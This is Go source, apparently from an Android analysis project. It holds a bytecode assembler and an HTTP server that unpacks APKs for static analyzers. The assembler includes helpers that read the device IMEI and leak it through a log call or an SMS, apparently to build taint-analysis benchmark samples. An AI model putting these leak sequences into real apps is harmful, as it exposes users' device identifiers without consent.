			a.p.fail("invoke/range %s->%s: registers %v not consecutive", cls, name, ints)
			return a
		}
	}
	start := 0
	if len(ints) > 0 {
		start = ints[0]
	}
	a.asm.InvokeRange(rop, idx, start, len(ints))
	return a
}

// InvokeVirtual emits invoke-virtual (or its range form when needed).
func (a *Asm) InvokeVirtual(cls, name, sig string, regs ...int32) *Asm {
	return a.invoke(bytecode.OpInvokeVirtual, cls, name, sig, regs...)
}

// InvokeInterface emits invoke-interface.
func (a *Asm) InvokeInterface(cls, name, sig string, regs ...int32) *Asm {
	return a.invoke(bytecode.OpInvokeInterface, cls, name, sig, regs...)
}

// InvokeStatic emits invoke-static.
func (a *Asm) InvokeStatic(cls, name, sig string, regs ...int32) *Asm {
	return a.invoke(bytecode.OpInvokeStatic, cls, name, sig, regs...)
}

// InvokeDirect emits invoke-direct.
func (a *Asm) InvokeDirect(cls, name, sig string, regs ...int32) *Asm {
	return a.invoke(bytecode.OpInvokeDirect, cls, name, sig, regs...)
}

// InvokeSuper emits invoke-super.
func (a *Asm) InvokeSuper(cls, name, sig string, regs ...int32) *Asm {
	return a.invoke(bytecode.OpInvokeSuper, cls, name, sig, regs...)
}

// MoveResult / MoveResultObject / MoveObject / Move re-export assembler ops.
func (a *Asm) MoveResult(reg int32) *Asm       { a.asm.MoveResult(reg); return a }
func (a *Asm) MoveResultObject(reg int32) *Asm { a.asm.MoveResultObject(reg); return a }
func (a *Asm) MoveException(reg int32) *Asm    { a.asm.MoveException(reg); return a }
func (a *Asm) Move(dst, src int32) *Asm        { a.asm.Move(dst, src); return a }
func (a *Asm) MoveObject(dst, src int32) *Asm  { a.asm.MoveObject(dst, src); return a }

// Control flow.
func (a *Asm) Goto(label string) *Asm { a.asm.Goto(label); return a }
func (a *Asm) If(op bytecode.Opcode, va, vb int32, label string) *Asm {
	a.asm.If(op, va, vb, label)
	return a
}
func (a *Asm) IfZ(op bytecode.Opcode, v int32, label string) *Asm {
	a.asm.IfZ(op, v, label)
	return a
}
func (a *Asm) PackedSwitch(v int32, firstKey int32, labels []string) *Asm {
	a.asm.PackedSwitch(v, firstKey, labels)
	return a
}
func (a *Asm) SparseSwitch(v int32, keys []int32, labels []string) *Asm {
	a.asm.SparseSwitch(v, keys, labels)
	return a
}

// Returns.
func (a *Asm) ReturnVoid() *Asm            { a.asm.ReturnVoid(); return a }
func (a *Asm) Return(reg int32) *Asm       { a.asm.Return(reg); return a }
func (a *Asm) ReturnObj(reg int32) *Asm    { a.asm.ReturnObject(reg); return a }
func (a *Asm) Throw(reg int32) *Asm        { a.asm.Throw(reg); return a }
func (a *Asm) Nop() *Asm                   { a.asm.Nop(); return a }
func (a *Asm) ArrayLength(d, s int32) *Asm { a.asm.ArrayLength(d, s); return a }

// Arithmetic.
func (a *Asm) Binop(op bytecode.Opcode, dst, x, y int32) *Asm {
	a.asm.Binop(op, dst, x, y)
	return a
}
func (a *Asm) BinopLit8(op bytecode.Opcode, dst, src int32, lit int64) *Asm {
	a.asm.BinopLit8(op, dst, src, lit)
	return a
}
func (a *Asm) AddLit(dst, src int32, lit int64) *Asm {
	a.asm.BinopLit8(bytecode.OpAddIntLit8, dst, src, lit)
	return a
}

// Array element access.
func (a *Asm) AGet(op bytecode.Opcode, dst, arr, idx int32) *Asm {
	a.asm.AGet(op, dst, arr, idx)
	return a
}
func (a *Asm) APut(op bytecode.Opcode, src, arr, idx int32) *Asm {
	a.asm.APut(op, src, arr, idx)
	return a
}

// Fields.
func (a *Asm) fieldIdx(cls, name, typ string) uint32 { return a.p.b.Field(cls, name, typ) }

func (a *Asm) SGetObject(reg int32, cls, name, typ string) *Asm {
	a.asm.SGet(bytecode.OpSGetObject, reg, a.fieldIdx(cls, name, typ))
	return a
}
func (a *Asm) SPutObject(reg int32, cls, name, typ string) *Asm {
	a.asm.SPut(bytecode.OpSPutObject, reg, a.fieldIdx(cls, name, typ))
	return a
}
func (a *Asm) SGetInt(reg int32, cls, name string) *Asm {
	a.asm.SGet(bytecode.OpSGet, reg, a.fieldIdx(cls, name, "I"))
	return a
}
func (a *Asm) SPutInt(reg int32, cls, name string) *Asm {
	a.asm.SPut(bytecode.OpSPut, reg, a.fieldIdx(cls, name, "I"))
	return a
}
func (a *Asm) SGetBool(reg int32, cls, name string) *Asm {
	a.asm.SGet(bytecode.OpSGetBoolean, reg, a.fieldIdx(cls, name, "Z"))
	return a
}
func (a *Asm) SPutBool(reg int32, cls, name string) *Asm {
	a.asm.SPut(bytecode.OpSPutBoolean, reg, a.fieldIdx(cls, name, "Z"))
	return a
}
func (a *Asm) IGetObject(dst, obj int32, cls, name, typ string) *Asm {
	a.asm.IGet(bytecode.OpIGetObject, dst, obj, a.fieldIdx(cls, name, typ))
	return a
}
func (a *Asm) IPutObject(src, obj int32, cls, name, typ string) *Asm {
	a.asm.IPut(bytecode.OpIPutObject, src, obj, a.fieldIdx(cls, name, typ))
	return a
}
func (a *Asm) IGetInt(dst, obj int32, cls, name string) *Asm {
	a.asm.IGet(bytecode.OpIGet, dst, obj, a.fieldIdx(cls, name, "I"))
	return a
}
func (a *Asm) IPutInt(src, obj int32, cls, name string) *Asm {
	a.asm.IPut(bytecode.OpIPut, src, obj, a.fieldIdx(cls, name, "I"))
	return a
}

// --- framework idioms -------------------------------------------------------

// GetIMEI emits the canonical IMEI source sequence into dst, clobbering
// scratch (dst and scratch must differ).
func (a *Asm) GetIMEI(dst, scratch int32) *Asm {
	a.ConstString(scratch, "phone")
	a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
		"(Ljava/lang/String;)Ljava/lang/Object;", a.This(), scratch)
	a.MoveResultObject(scratch)
	a.CheckCast(scratch, "Landroid/telephony/TelephonyManager;")
	a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getDeviceId",
		"()Ljava/lang/String;", scratch)
	a.MoveResultObject(dst)
	return a
}

// LogLeak emits Log.i(tag, vMsg) — the standard DroidBench sink.
func (a *Asm) LogLeak(tag string, msg, scratch int32) *Asm {
	a.ConstString(scratch, tag)
	a.InvokeStatic("Landroid/util/Log;", "i",
		"(Ljava/lang/String;Ljava/lang/String;)I", scratch, msg)
	return a
}

// SendSMS emits SmsManager.getDefault().sendTextMessage(dest, null, vMsg,
// null, null) using six consecutive registers starting at base. The message
// is moved into place first so the subsequent register fills cannot clobber
// it wherever it lives.
func (a *Asm) SendSMS(dest string, msg, base int32) *Asm {
	a.MoveObject(base+3, msg)
	a.InvokeStatic("Landroid/telephony/SmsManager;", "getDefault",
		"()Landroid/telephony/SmsManager;")
	a.MoveResultObject(base)
	a.ConstString(base+1, dest)
	a.Const(base+2, 0) // null scAddress
	a.Const(base+4, 0)
	a.Const(base+5, 0)
	a.InvokeVirtual("Landroid/telephony/SmsManager;", "sendTextMessage",
		"(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/Object;Ljava/lang/Object;)V",
		base, base+1, base+2, base+3, base+4, base+5)
	return a
}

// StaticInit declares a static field with explicit flags and an optional
// encoded initial value.
func (c *Class) StaticInit(name, typ string, flags uint32, v *dex.Value) *Class {
	c.cb.StaticField(name, typ, flags, v)
	return c
}

// FieldWithFlags declares an instance field with explicit access flags.
func (c *Class) FieldWithFlags(name, typ string, flags uint32) *Class {
	c.cb.InstanceField(name, typ, flags)
	return c
}

// NativeM declares a native method in the requested dispatch table.
func (c *Class) NativeM(name, ret string, params []string, virtual bool) *Class {
	if virtual {
		c.cb.VirtualMethod(name, ret, params, dex.AccPublic|dex.AccNative, nil)
		return c
	}
	c.cb.NativeMethod(name, ret, params, dex.AccPublic)
	return c
}

// AbstractM declares an abstract (or interface) method.
func (c *Class) AbstractM(name, ret string, params []string) *Class {
	c.cb.VirtualMethod(name, ret, params, dex.AccPublic|dex.AccAbstract, nil)
	return c
}

// NoteOuts raises the method's outgoing-argument size to at least n. Bodies
// emitted through the raw assembler must report their invokes here.
func (a *Asm) NoteOuts(n int) *Asm {
	a.trackOuts(n)
	return a
}

// RawCode gives full control over the emitted method shape for callers that
// bypass the locals/params convention (the reassembler).
type RawCode struct {
	Registers int
	Ins       int
	Outs      int
	Build     func(a *Asm)
	Tries     []dex.Try
	// TriesFn computes the try table after assembly from resolved label
	// positions; it overrides Tries when set.
	TriesFn func(labels *bytecode.Labels) ([]dex.Try, error)
}

// RawMethod emits a method whose register layout is fully caller-controlled.
// The Asm handed to rc.Build must not be retained past the Build call.
func (c *Class) RawMethod(name, ret string, params []string, flags uint32, rc RawCode) *Class {
	if c.p.err != nil {
		return c
	}
	a := c.p.newAsm()
	a.locals = int32(rc.Registers - rc.Ins)
	a.static = flags&dex.AccStatic != 0
	a.params = len(params)
	rc.Build(a)
	outs := rc.Outs
	if a.outs > outs {
		outs = a.outs
	}
	code := c.p.newCode()
	code.RegistersSize = uint16(rc.Registers)
	code.InsSize = uint16(rc.Ins)
	code.OutsSize = uint16(outs)
	code.Tries = rc.Tries
	task := asmTask{a: a, code: code, desc: c.desc, name: name}
	if triesFn := rc.TriesFn; triesFn != nil {
		desc, mname := c.desc, name
		task.tries = func(labels *bytecode.Labels) error {
			tries, err := triesFn(labels)
			if err != nil {
				return fmt.Errorf("dexgen: %s->%s: tries: %v", desc, mname, err)
			}
			code.Tries = tries
			return nil
		}
	}
	c.p.tasks = append(c.p.tasks, task)
	switch {
	case flags&dex.AccStatic != 0:
		c.cb.DirectMethod(name, ret, params, flags, code)
	case name == "<init>" || name == "<clinit>" || flags&dex.AccPrivate != 0:
		c.cb.DirectMethod(name, ret, params, flags, code)
	default:
		c.cb.VirtualMethod(name, ret, params, flags, code)
	}
	return c
}

// ClassWithFlags starts a class definition with explicit access flags.
func (p *Program) ClassWithFlags(descriptor string, flags uint32, super string, interfaces ...string) *Class {
	if super == "" {
		super = "Ljava/lang/Object;"
	}
	cb := p.b.Class(descriptor, flags, super, interfaces...)
	return &Class{p: p, cb: cb, desc: descriptor}
}

// Unop emits a one-operand arithmetic instruction (neg-int, not-int).
func (a *Asm) Unop(op bytecode.Opcode, dst, src int32) *Asm {
	a.asm.Unop(op, dst, src)
	return a
}
