// Package server is the reveal-as-a-service layer: an HTTP job API over
// the DexLego pipeline. The paper positions DexLego as a front-end that
// feeds revealed APKs to downstream static analyzers (Sec. I, Fig. 1), so
// the service treats the reveal artifact as its unit of work: submissions
// are addressed into the content-addressed store (internal/store), a
// bounded queue feeds a pipeline worker pool, and repeated requests for
// the same (APK, Options) pair are served from cache without re-running
// the reveal.
//
// API:
//
//	POST /v1/reveal              submit an APK (request body) or a named
//	                             droidbench sample (?sample=Name); options
//	                             via ?force=1&fuzz=1&seed=N; ?wait=1
//	                             blocks until completion or the request
//	                             timeout. 200 on a cache hit or completed
//	                             wait, 202 with a job id otherwise, 429 +
//	                             Retry-After when the queue is full.
//	GET  /v1/jobs/{id}           job status/result JSON
//	GET  /v1/jobs/{id}/artifact  revealed APK bytes (zip)
//	GET  /v1/jobs/{id}/flight    JSONL flight recording (failed or
//	                             SLO-violating jobs only)
//	GET  /v1/metrics             job/store counters + merged obs snapshot
//	GET  /metrics                OpenMetrics text exposition of the same
//	                             plane, for Prometheus-style scrapers
//	GET  /healthz                liveness: 200 while the process serves
//	GET  /readyz                 readiness: 200 accepting work, 503 while
//	                             draining or before the node joined its
//	                             fleet
package server

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/url"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	dexlego "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/droidbench"
	"dexlego/internal/obs"
	"dexlego/internal/packer"
	"dexlego/internal/pipeline"
	"dexlego/internal/store"
)

// State is a job's position in its lifecycle.
type State string

// The job states, in lifecycle order.
const (
	StateQueued  State = "queued"
	StateRunning State = "running"
	StateDone    State = "done"
	StateFailed  State = "failed"
)

// RevealFunc runs one reveal; it exists so tests can substitute the real
// dexlego.Reveal with a controllable stand-in.
type RevealFunc func(*apk.APK, dexlego.Options) (*dexlego.Result, error)

// Config parameterizes a Server.
type Config struct {
	// Store caches reveal artifacts; required.
	Store *store.Store
	// Workers is the job-level parallelism: how many reveals run at once
	// (<= 0 selects GOMAXPROCS).
	Workers int
	// RevealWorkers is the per-job worker budget handed to each reveal's
	// intra-APK pools (reassembly fan-out, force-execution runs). Admission
	// control clamps it so Workers × RevealWorkers never exceeds
	// GOMAXPROCS — jobs-level and reveal-level parallelism multiply, and
	// oversubscription would thrash rather than speed up. <= 0 grants each
	// job the largest budget the cap allows.
	RevealWorkers int
	// QueueDepth bounds jobs admitted but not yet running (<= 0 selects
	// 64). A full queue answers 429, never unbounded memory growth.
	QueueDepth int
	// RequestTimeout bounds ?wait=1 blocking (<= 0 selects 30s).
	RequestTimeout time.Duration
	// MaxBodyBytes bounds the uploaded APK size (<= 0 selects 64 MiB).
	MaxBodyBytes int64
	// Sink, when set, receives the JSONL trace of the server span and of
	// every reveal; nil keeps metrics without trace lines.
	Sink obs.Sink
	// FlightEvents bounds each job's flight-recorder ring — the most recent
	// trace events retained for incident dumps (<= 0 selects 256).
	FlightEvents int
	// FlightDir, when set, receives one <jobid>.jsonl flight recording per
	// failed or SLO-violating job. The directory must exist.
	FlightDir string
	// SLO, when > 0, is the admission-to-completion latency objective: jobs
	// exceeding it emit an slo_violation event and dump their flight ring
	// even though they succeeded.
	SLO time.Duration
	// Reveal substitutes the reveal implementation in tests; nil selects
	// dexlego.Reveal.
	Reveal RevealFunc
	// MethodCache, when set, enables the incremental reveal path for every
	// job: reveals skip methods whose fingerprinted collection trees are
	// already cached and splice them instead (see dexlego.Options).
	MethodCache *store.MethodCache
	// MemBudget, when set, gates fresh reveals on estimated heap footprint:
	// a reveal whose estimate does not fit under the budget blocks until
	// running reveals release theirs (emitting mem_admit_wait). Cache hits
	// never wait — the gate sits inside the reveal closure. Nil admits
	// everything immediately.
	MemBudget *pipeline.MemoryBudget
	// SpillCache, when set, enables the memory-budgeted output path for
	// every job (see dexlego.Options.SpillCache): collection results are
	// displaced to this cache between execution and reassembly and the DEX
	// is emitted through the streaming writer.
	SpillCache *store.MethodCache
}

// maxFinishedJobs bounds the completed-job history the server retains for
// GET /v1/jobs/{id}; the oldest finished jobs are dropped past it.
const maxFinishedJobs = 1024

// job is the server-side record of one submission.
type job struct {
	id   string
	key  string
	name string

	// trace is the job's stable trace identity: a prefix of its content
	// address, stamped on every event of the job's span tree.
	trace string
	// hops are the fleet nodes the submission traversed before landing
	// here (FleetHopsHeader); each is stamped into the job's flight trace.
	hops []string

	// Guarded by Server.mu.
	state        State
	cacheHit     bool
	err          string
	submitted    time.Time
	queueNS      int64
	runNS        int64
	totalNS      int64
	resources    *pipeline.ResourceUsage
	flight       []byte // JSONL flight recording; nil unless the job failed or blew its SLO
	flightReason string
	artifact     *store.Artifact

	done chan struct{} // closed on completion
}

// JobStatus is the JSON shape of a job returned by the API.
type JobStatus struct {
	ID    string `json:"id"`
	State State  `json:"state"`
	Name  string `json:"name,omitempty"`
	// Key is the artifact's content address in the store.
	Key string `json:"key"`
	// CacheHit reports the reveal was served from the store (or from a
	// concurrent identical request) without running.
	CacheHit bool   `json:"cacheHit"`
	Err      string `json:"err,omitempty"`
	// Trace is the job's stable trace identity (a content-address prefix);
	// filter a shared JSONL trace on it to extract this job's span tree.
	Trace string `json:"trace,omitempty"`
	// Hops are the fleet nodes the submission traversed before the node
	// that answered it (empty outside fleet mode).
	Hops    []string `json:"hops,omitempty"`
	QueueNS int64    `json:"queueNS,omitempty"`
	RunNS   int64    `json:"runNS,omitempty"`
	TotalNS int64    `json:"totalNS,omitempty"`
	// Resources is the job's resource bill as the server observed it:
	// latency split always, CPU/heap figures when the job actually ran.
	Resources *pipeline.ResourceUsage `json:"resources,omitempty"`
	// FlightReason is set ("failed" or "slo") when a flight recording is
	// available at /v1/jobs/{id}/flight.
	FlightReason string `json:"flightReason,omitempty"`
	// RevealedBytes sizes the artifact available at /v1/jobs/{id}/artifact.
	RevealedBytes int                  `json:"revealedBytes,omitempty"`
	Metrics       *pipeline.AppMetrics `json:"metrics,omitempty"`
}

// Metrics is the JSON shape of GET /v1/metrics.
type Metrics struct {
	Jobs struct {
		Submitted int64 `json:"submitted"`
		Queued    int   `json:"queued"`
		Running   int   `json:"running"`
		Done      int   `json:"done"`
		Failed    int   `json:"failed"`
		Rejected  int64 `json:"rejected"`
		// Coalesced counts submissions that joined an already-active job
		// for the same key instead of enqueueing a duplicate.
		Coalesced int64 `json:"coalesced"`
	} `json:"jobs"`
	Store struct {
		Hits     int64 `json:"hits"`
		Misses   int64 `json:"misses"`
		Evicted  int64 `json:"evicted"`
		Resident int   `json:"resident"`
	} `json:"store"`
	// DroppedEvents totals trace events lost anywhere in the plane (live
	// server tracer plus completed per-job tracers); non-zero means the
	// trace is incomplete and the sink needs attention.
	DroppedEvents int64 `json:"droppedEvents"`
	// Obs merges the server lifecycle snapshot (cache_hit/cache_miss,
	// queue_wait, job_enqueued/job_done) with every completed reveal's
	// per-app snapshot.
	Obs *obs.Snapshot `json:"obs,omitempty"`
}

// Server is the reveal job service. Create with New, expose via Handler,
// stop with BeginDrain + Close.
type Server struct {
	cfg    Config
	reveal RevealFunc
	pool   *pipeline.Pool
	tracer *obs.Tracer
	root   *obs.Span
	tel    *telemetry
	// revealWorkers is the admitted per-job worker budget after the
	// GOMAXPROCS oversubscription clamp in New.
	revealWorkers int

	mu     sync.Mutex
	jobs   map[string]*job
	order  []string // submission order, for history trimming
	agg    *obs.Snapshot
	counts map[State]int
	// active indexes the queued/running job per artifact key: later
	// submissions of the same key join it (the key's reveal lease) instead
	// of burning a queue slot on a duplicate.
	active   map[string]*job
	draining atomic.Bool
	// notReady inverts the readiness default so the zero value is ready:
	// only a fleet layer that has not finished joining flips it.
	notReady atomic.Bool

	submitted atomic.Int64
	rejected  atomic.Int64
	coalesced atomic.Int64
	ids       atomic.Uint64
}

// New returns a serving (not yet listening) server; wire its Handler into
// an http.Server. Callers own cfg.Store's lifetime.
func New(cfg Config) (*Server, error) {
	if cfg.Store == nil {
		return nil, errors.New("server: Config.Store is required")
	}
	if cfg.QueueDepth <= 0 {
		cfg.QueueDepth = 64
	}
	if cfg.RequestTimeout <= 0 {
		cfg.RequestTimeout = 30 * time.Second
	}
	if cfg.MaxBodyBytes <= 0 {
		cfg.MaxBodyBytes = 64 << 20
	}
	reveal := cfg.Reveal
	if reveal == nil {
		reveal = dexlego.Reveal
	}
	tracer := obs.New(cfg.Sink)
	s := &Server{
		cfg:    cfg,
		reveal: reveal,
		pool:   pipeline.NewPool(cfg.Workers, cfg.QueueDepth),
		tracer: tracer,
		root:   tracer.Start("server", "dexlego-serve"),
		jobs:   make(map[string]*job),
		active: make(map[string]*job),
		counts: make(map[State]int),
	}
	s.tel = newTelemetry(s)
	// Admission control for intra-reveal parallelism: the pool runs up to
	// poolWorkers reveals at once and each reveal fans out RevealWorkers
	// goroutines, so the products multiply. Clamp the per-job budget to
	// GOMAXPROCS / poolWorkers (floor 1) so a busy server never schedules
	// more runnable goroutines than cores. NewPool resolves <= 0 to
	// GOMAXPROCS internally, so mirror that here to clamp against the
	// actual pool size.
	procs := runtime.GOMAXPROCS(0)
	poolWorkers := cfg.Workers
	if poolWorkers <= 0 {
		poolWorkers = procs
	}
	budget := procs / poolWorkers
	if budget < 1 {
		budget = 1
	}
	s.revealWorkers = cfg.RevealWorkers
	if s.revealWorkers <= 0 || s.revealWorkers > budget {
		requested := cfg.RevealWorkers
		s.revealWorkers = budget
		if requested > budget {
			s.root.WorkerClamp(requested, budget,
				fmt.Sprintf("%d jobs x %d reveal workers exceeds GOMAXPROCS=%d",
					poolWorkers, requested, procs))
		}
	}
	return s, nil
}

// RevealWorkers reports the per-job worker budget after admission control.
func (s *Server) RevealWorkers() int { return s.revealWorkers }

// Handler returns the API routes.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/reveal", s.handleReveal)
	mux.HandleFunc("GET /v1/jobs/{id}", s.handleJob)
	mux.HandleFunc("GET /v1/jobs/{id}/artifact", s.handleArtifact)
	mux.HandleFunc("GET /v1/jobs/{id}/flight", s.handleFlight)
	mux.HandleFunc("GET /v1/metrics", s.handleMetrics)
	mux.HandleFunc("GET /metrics", s.handleOpenMetrics)
	mux.HandleFunc("GET /healthz", s.handleHealth)
	mux.HandleFunc("GET /readyz", s.handleReady)
	return mux
}

// BeginDrain stops admitting work: POST answers 503 and /readyz flips, so
// load balancers stop routing here while in-flight jobs finish (/healthz
// liveness stays 200 throughout).
func (s *Server) BeginDrain() { s.draining.Store(true) }

// Draining reports whether BeginDrain was called.
func (s *Server) Draining() bool { return s.draining.Load() }

// SetReady flips the node's readiness as served by /readyz. A standalone
// server is ready from construction; a fleet node starts not-ready and
// flips true once it has joined its ring, so peers never route to a node
// that cannot yet place keys.
func (s *Server) SetReady(ready bool) { s.notReady.Store(!ready) }

// Ready reports whether the node accepts routed work (and is not draining).
func (s *Server) Ready() bool { return !s.notReady.Load() && !s.draining.Load() }

// Load reports the node's admitted-but-unfinished job count (queued plus
// running) — the signal the fleet's least-loaded-replica escalation and
// peer heartbeats read.
func (s *Server) Load() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.counts[StateQueued] + s.counts[StateRunning]
}

// Registry exposes the server's typed metric registry so layers wrapping
// the server (the fleet router) can register their own series into the
// same /metrics exposition.
func (s *Server) Registry() *obs.Registry { return s.tel.reg }

// Store exposes the content-addressed artifact store backing this server.
func (s *Server) Store() *store.Store { return s.cfg.Store }

// Close drains the queue (every admitted job still completes), stops the
// workers, and ends the server span. Call after BeginDrain and the HTTP
// listener's shutdown.
func (s *Server) Close() {
	s.draining.Store(true)
	s.pool.Close()
	s.root.End()
}

// parseRequest builds the (APK, Options, name) of one submission.
func (s *Server) parseRequest(w http.ResponseWriter, r *http.Request) (*apk.APK, dexlego.Options, string, error) {
	body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, s.cfg.MaxBodyBytes))
	if err != nil {
		return nil, dexlego.Options{}, "", fmt.Errorf("read body: %v", err)
	}
	return ParseSubmission(r.URL.Query(), body)
}

// ParseSubmission builds the (APK, Options, name) of one reveal submission
// from its query parameters and raw body, the shared request vocabulary of
// this server and the fleet router in front of it (which must derive the
// cache key before deciding which node handles the request).
func ParseSubmission(q url.Values, body []byte) (*apk.APK, dexlego.Options, string, error) {
	opts := dexlego.Options{
		InstallNatives: installAllPackers,
		ForceExecution: q.Get("force") == "1",
		Fuzz:           q.Get("fuzz") == "1",
	}
	if seed := q.Get("seed"); seed != "" {
		n, err := strconv.ParseInt(seed, 10, 64)
		if err != nil {
			return nil, opts, "", fmt.Errorf("bad seed %q", seed)
		}
		opts.FuzzSeed = n
	}
	if sample := q.Get("sample"); sample != "" {
		sm := droidbench.ByName(sample)
		if sm == nil {
			return nil, opts, "", fmt.Errorf("unknown droidbench sample %q", sample)
		}
		pkg, err := sm.Build()
		if err != nil {
			return nil, opts, "", fmt.Errorf("build sample %q: %v", sample, err)
		}
		opts.Natives = sm.Natives()
		return pkg, opts, sample, nil
	}
	if len(body) == 0 {
		return nil, opts, "", errors.New("empty body: send APK bytes or ?sample=Name")
	}
	pkg, err := apk.Read(body)
	if err != nil {
		return nil, opts, "", fmt.Errorf("body is not an APK: %v", err)
	}
	h := pkg.ContentHash()
	return pkg, opts, fmt.Sprintf("apk-%x", h[:6]), nil
}

// RetryAfterJitter returns a randomized Retry-After value — whole seconds
// in [1,3] — for 429 responses. Synchronized clients (and fleet-internal
// forwards, which all observe an overloaded node at the same instant)
// would otherwise retry in lockstep and re-create the very queue spike
// that shed them; the jitter de-correlates the retry wave.
func RetryAfterJitter() string { return strconv.Itoa(1 + rand.IntN(3)) }

// FleetHopsHeader carries the comma-separated node IDs a fleet-forwarded
// submission traversed before reaching the node that executes it. The
// fleet router appends itself when forwarding; the executing server stamps
// each hop into the job's flight-recorder trace.
const FleetHopsHeader = "X-Dexlego-Fleet-Hops"

// fleetHops parses FleetHopsHeader ("" outside fleet mode).
func fleetHops(h http.Header) []string {
	raw := h.Get(FleetHopsHeader)
	if raw == "" {
		return nil
	}
	var out []string
	for _, part := range strings.Split(raw, ",") {
		if part = strings.TrimSpace(part); part != "" {
			out = append(out, part)
		}
	}
	return out
}

// installAllPackers is the server-wide native setup: the shell libraries
// of every supported packer, so packed submissions unpack transparently
// (as cmd/dexlego does in one-shot mode). Constant across requests, so it
// never perturbs the options fingerprint between submissions.
func installAllPackers(rt *art.Runtime) {
	for _, pk := range packer.All() {
		pk.InstallNatives(rt)
	}
}

func (s *Server) handleReveal(w http.ResponseWriter, r *http.Request) {
	if s.draining.Load() {
		httpError(w, http.StatusServiceUnavailable, "draining")
		return
	}
	pkg, opts, name, err := s.parseRequest(w, r)
	if err != nil {
		httpError(w, http.StatusBadRequest, err.Error())
		return
	}
	key := store.KeyFor(pkg.ContentHash(), opts.Fingerprint())
	s.submitted.Add(1)

	hops := fleetHops(r.Header)

	// Fast path: the artifact already exists — answer without a job queue
	// round trip. The job record still exists so the id is pollable.
	if art, ok := s.cfg.Store.Get(key); ok {
		j := s.newJob(key, name, hops)
		total := time.Since(j.submitted)
		s.tel.observeJob(0, 0, total, nil, false)
		s.mu.Lock()
		j.totalNS = int64(total)
		j.resources = &pipeline.ResourceUsage{TotalNS: int64(total)}
		s.finishLocked(j, art, true, nil, 0)
		s.mu.Unlock()
		s.root.CacheHit(key)
		s.writeJob(w, http.StatusOK, j)
		return
	}

	// Admission lease: a queued/running job for the same key absorbs this
	// submission — no second queue slot, no second reveal. The fleet router
	// concentrates every duplicate of a key on its ring owner, so this
	// coalescing is what bounds a fleet-wide duplicate storm to exactly one
	// reveal instead of shedding duplicates with 429s.
	s.mu.Lock()
	leader := s.active[key]
	s.mu.Unlock()
	if leader != nil {
		s.coalesced.Add(1)
		s.respondAdmitted(w, r, leader)
		return
	}

	j := s.newJob(key, name, hops)
	s.mu.Lock()
	if cur := s.active[key]; cur != nil {
		// Lost the publication race: another request just became leader.
		s.mu.Unlock()
		s.dropJob(j)
		s.coalesced.Add(1)
		s.respondAdmitted(w, r, cur)
		return
	}
	s.active[key] = j
	s.mu.Unlock()

	submitTime := time.Now()
	accepted := s.pool.TrySubmit(func() { s.runJob(j, submitTime, pkg, opts) })
	if !accepted {
		s.mu.Lock()
		if s.active[key] == j {
			delete(s.active, key)
		}
		s.mu.Unlock()
		s.rejected.Add(1)
		s.dropJob(j)
		w.Header().Set("Retry-After", RetryAfterJitter())
		httpError(w, http.StatusTooManyRequests, "queue full, retry later")
		return
	}
	s.root.JobEnqueued(j.id)
	s.respondAdmitted(w, r, j)
}

// respondAdmitted answers an admitted (or joined) submission: blocking on
// completion under ?wait=1, 202 + Location otherwise.
func (s *Server) respondAdmitted(w http.ResponseWriter, r *http.Request, j *job) {
	if r.URL.Query().Get("wait") == "1" {
		select {
		case <-j.done:
			s.writeJob(w, http.StatusOK, j)
		case <-time.After(s.cfg.RequestTimeout):
			s.writeJob(w, http.StatusAccepted, j)
		case <-r.Context().Done():
			// Client went away; the job still completes and is pollable.
		}
		return
	}
	w.Header().Set("Location", "/v1/jobs/"+j.id)
	s.writeJob(w, http.StatusAccepted, j)
}

// newJob registers a queued job record, trimming finished history.
func (s *Server) newJob(key, name string, hops []string) *job {
	j := &job{
		id:        fmt.Sprintf("job-%06d", s.ids.Add(1)),
		key:       key,
		name:      name,
		trace:     traceIDFor(key),
		hops:      hops,
		state:     StateQueued,
		submitted: time.Now(),
		done:      make(chan struct{}),
	}
	s.mu.Lock()
	s.jobs[j.id] = j
	s.order = append(s.order, j.id)
	s.counts[StateQueued]++
	s.trimLocked()
	s.mu.Unlock()
	return j
}

// dropJob forgets a job that was never admitted (429 path).
func (s *Server) dropJob(j *job) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.jobs[j.id]; !ok {
		return
	}
	delete(s.jobs, j.id)
	s.counts[j.state]--
	for i, id := range s.order {
		if id == j.id {
			s.order = append(s.order[:i], s.order[i+1:]...)
			break
		}
	}
}

// trimLocked drops the oldest finished jobs past the history bound;
// queued/running jobs are never dropped.
func (s *Server) trimLocked() {
	if len(s.order) <= maxFinishedJobs {
		return
	}
	kept := s.order[:0]
	excess := len(s.order) - maxFinishedJobs
	for _, id := range s.order {
		j := s.jobs[id]
		if excess > 0 && j != nil && (j.state == StateDone || j.state == StateFailed) {
			delete(s.jobs, id)
			s.counts[j.state]--
			excess--
			continue
		}
		kept = append(kept, id)
	}
	s.order = kept
}

// estimateFootprint predicts a fresh reveal's peak heap from its input.
// Collection trees, the method map, and reassembly scratch all scale with
// the bytecode — not the package — so the primary dex payload drives the
// estimate. The multiplier is deliberately generous (decoded tree graphs
// run several times their serialized size and the budget is an admission
// gate, not an allocator), with a floor covering the runtime substrate's
// fixed overhead.
func estimateFootprint(pkg *apk.APK) int64 {
	const floor = 8 << 20
	data, err := pkg.Dex()
	if err != nil {
		return floor
	}
	est := int64(len(data)) * 24
	if est < floor {
		est = floor
	}
	return est
}

// runJob executes one admitted job on a pool worker. The job's whole span
// tree — lifecycle span and reveal spans alike — flows through a per-job
// tracer pair sharing one flight-recorder ring and one trace ID, so an
// incident can dump the job's recent history end to end while the happy
// path pays only one ring store per event.
func (s *Server) runJob(j *job, submitTime time.Time, pkg *apk.APK, opts dexlego.Options) {
	wait := time.Since(submitTime)
	rec := obs.NewFlightRecorder(s.cfg.Sink, s.cfg.FlightEvents)
	jobTracer := obs.New(rec)
	jobTracer.SetTraceID(j.trace)
	span := jobTracer.Start("job", j.name)
	span.QueueWait(j.id, wait)
	// Stamp the submission's fleet path into the flight ring: an incident
